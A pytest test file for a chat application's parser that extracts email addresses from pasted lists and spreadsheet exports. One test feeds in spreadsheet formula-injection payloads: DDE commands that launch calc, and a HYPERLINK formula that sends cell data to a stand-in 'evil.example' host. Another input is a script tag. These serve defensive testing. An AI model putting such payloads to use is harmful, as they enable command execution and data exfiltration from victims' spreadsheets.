"""Lists of addresses, in all the ways in which people have them."""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from chat.errors import Invalid
from chat.members.joining import clean_email
from chat.networks import pasting
from chat.networks.pasting import entries


def told(given):
    """What was made of a list: line, name, address; the line that had it first."""
    return [(e.line, e.name, e.email) + ((e.same_as,) if e.same_as else ()) for e in entries(given)]


def test_one_address_a_line():
    assert told(
        "erin@example.org\n\n  Finn@Example.ORG  \r\nGita Rao <gita@example.org>,\r\nmailto:hal@example.org;"
    ) == [
        (1, "", "erin@example.org"),
        (3, "", "finn@example.org"),
        (4, "Gita Rao", "gita@example.org"),
        (5, "", "hal@example.org"),
    ]


def test_what_is_copied_from_a_letter_s_head():
    copied = 'Erin Walsh <erin@example.org>; "Moss, Finn" <finn@example.org>; gita@example.org'
    assert told(copied) == [
        (1, "Erin Walsh", "erin@example.org"),
        (1, "Moss, Finn", "finn@example.org"),
        (1, "", "gita@example.org"),
    ]


TABLE = (
    'Name{0}E-Mail{0}Ward\nErin Walsh{0}erin@example.org{0}7\n"Moss{0} Finn"{0}finn@example.org{0}"8 ""B"""\n'
)


@pytest.mark.parametrize("mark", [",", ";", "\t"], ids=["commas", "semicolons", "tabs"])
@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "latin-1", "cp1252"]
)
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"], ids=["Unix", "Windows", "old Mac"])
def test_a_table_as_programs_save_it(mark, encoding, end):
    table = TABLE.format(mark).replace("Walsh", "Wälsh").replace("\n", end)
    assert told(table.encode(encoding)) == [
        (2, "Erin Wälsh", "erin@example.org"),
        (3, f"Moss{mark} Finn" if mark != "\t" else "Moss Finn", "finn@example.org"),
    ]


@pytest.mark.parametrize(
    "heading",
    [
        "email",
        "E-mail",
        "E-Mail-Adresse",
        "Email address",
        "Work email",
        "E-mail 1 - Value",
        "correo electrónico",
    ],
)
def test_headings_are_no_line(heading):
    assert told(f"First name,Last name,{heading},Other\nErin,Walsh,erin@example.org,boss@example.org") == [
        (2, "Erin Walsh", "erin@example.org")
    ]


@pytest.mark.parametrize("first", ["ana.gmail.com", "Ana Lima", "mailman.example.org"])
def test_a_first_line_that_is_no_heading_is_told(first):
    assert told(f"{first}\nerin@example.org") == [(1, "", None), (2, "", "erin@example.org")]


def test_an_empty_cell_beneath_the_heading_is_told():
    found = entries("name;mail\nErin;\nFinn;finn@example.org\nGita")
    assert [(e.line, e.typed, e.email) for e in found] == [
        (2, "Erin", None), (3, "finn@example.org", "finn@example.org"), (4, "Gita", None),
    ]  # fmt: skip


def test_nobody_else_s_address_is_taken_for_one_that_is_broken():
    found = entries(
        "Name,Adresse,Mail,Boss\nErin,Hafenstr 7,erin(at)example.org,boss@example.org\nFinn,,,boss@example.org"
    )
    assert [(e.line, e.typed, e.email) for e in found] == [
        (2, "erin(at)example.org", None), (3, "Finn boss@example.org", None),
    ]  # fmt: skip


def test_a_heading_that_may_mean_a_street_hides_no_address():
    assert told("Name,Address,Contact\nErin,Hafenstr 7,erin@example.org") == [(2, "Erin", "erin@example.org")]


def test_a_cell_that_is_far_too_long_takes_no_line_with_it():
    found = entries('"' + "x" * 140_000 + '\nerin@example.org\n"\nfinn@example.org')
    assert [e.email for e in found if e.email] == ["erin@example.org", "finn@example.org"]


def test_excel_s_own_first_line():
    assert told("sep=;\nmail;ward\nerin@example.org;7,5") == [(3, "", "erin@example.org")]


def test_the_same_address_again_names_its_first_line():
    assert told("erin@example.org\nfinn@example.org\nERIN@example.org\nErin <erin@example.org>") == [
        (1, "", "erin@example.org"), (2, "", "finn@example.org"), (3, "", "erin@example.org", 1), (4, "Erin", "erin@example.org", 1),
    ]  # fmt: skip


@pytest.mark.parametrize(
    "wrong",
    [
        "erin", "erin@", "@example.org", "erin@example", "erin@@example.org", "erin@exa mple.org", "er in@example.org", "erin@example..org",
        ".erin@example.org", "erin.@example.org", "erin@-example.org", "erin@example.org-", "erin@" + "a" * 64 + ".org",
        "erin@example.local", "erin@localhost", "erin@[127.0.0.1]", "<script>@example.org", "x" * 100_000, "@" * 5000,
    ],
    ids=lambda wrong: wrong[:20],
)  # fmt: skip
def test_what_is_no_address_is_told(wrong):
    first, second = entries(f"{wrong}\nfinn@example.org")
    assert (first.line, first.email) == (1, None)
    assert first.typed
    assert len(first.typed) <= pasting.LONGEST
    assert second.email == "finn@example.org"


@pytest.mark.parametrize(
    "formula",
    ["=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1)', "@SUM(1+1)*cmd|'/C calc'!A0", "=1+1@example.org", "-2+3+cmd|' /C calc'!A0"],
)  # fmt: skip
def test_a_formula_is_a_text_and_no_address(formula):
    assert [e.email for e in entries(f"{formula}\nfinn@example.org")][-1] == "finn@example.org"
    assert None in [e.email for e in entries(f"{formula}\nfinn@example.org")]


@pytest.mark.parametrize(
    "last", ["gita@example.org", '"Gita <gita@example.org>'], ids=["none", "another one"]
)
def test_a_quote_that_is_never_closed_takes_no_line_with_it(last):
    guests = [f"guest-{n}@example.org" for n in range(40)]
    found = [e.email for e in entries("\n".join(['"Erin <erin@example.org>', *guests, last]))]
    assert found[1:-1] == guests
    assert found[-1] == "gita@example.org"


def test_a_cell_that_goes_on_on_the_next_line():
    assert told('Name,Mail\n"Erin\nWalsh",erin@example.org\nFinn,finn@example.org') == [
        (2, "Erin Walsh", "erin@example.org"), (4, "Finn", "finn@example.org"),
    ]  # fmt: skip


def test_what_cannot_be_kept_is_left_out():
    (found,) = entries("Er\x00in\u202e\ud800 <erin@example.org>")
    assert (found.name, found.email) == ("Erin?", "erin@example.org")


def test_fifty_thousand_lines_and_not_one_more():
    most = "\n".join(f"guest-{n}@example.org" for n in range(50_000))
    found = entries(most)
    assert (len(found), found[-1].line, found[-1].email) == (50_000, 50_000, "guest-49999@example.org")
    with pytest.raises(Invalid, match="more than 50,000 lines") as refused:
        entries(most + "\none-more@example.org")
    assert refused.value.field == "list"


@pytest.mark.parametrize(
    "nothing", ["", " \n\t\n", "\ufeff", b"", b"\xef\xbb\xbf", b"\xff\xfe", b"\x00" * 100]
)
def test_a_list_of_nothing_says_so(nothing):
    with pytest.raises(Invalid, match="no address"):
        entries(nothing)


def test_unusual_addresses_are_kept_as_sign_up_keeps_them():
    lines = [
        "Gäste@Krankenhäuser.example.org",
        "erin@KRANKENHÄUSER.example.org",
        "erin@xn--krankenhuser-gcb.example.org",
    ]
    found = [e.email for e in entries("\n".join(lines))]
    assert found == [clean_email(line) for line in lines]
    assert entries("a@" + "b" * 60 + ("." + "c" * 60) * 4 + ".org")[0].email is None  # 310 letters


@given(st.binary(max_size=400))
@settings(max_examples=300, deadline=None)
def test_no_bytes_are_an_accident(raw):
    try:
        found = entries(raw)
    except Invalid:
        return
    assert all(e.typed for e in found) or raw


ALPHABET = "ab1.-_+@=%xn é"


@given(
    st.text(ALPHABET, max_size=20).map(lambda text: f"{text}@example.org") | st.text(ALPHABET, max_size=40)
)
@example("a@xn--caf-dma.example")
@example("a@example.test")
@settings(max_examples=500, deadline=None)
def test_the_short_way_lets_nothing_in_that_the_full_check_refuses(address):
    found = pasting._email(address.strip())
    if found is not None:
        assert found == clean_email(address.strip())
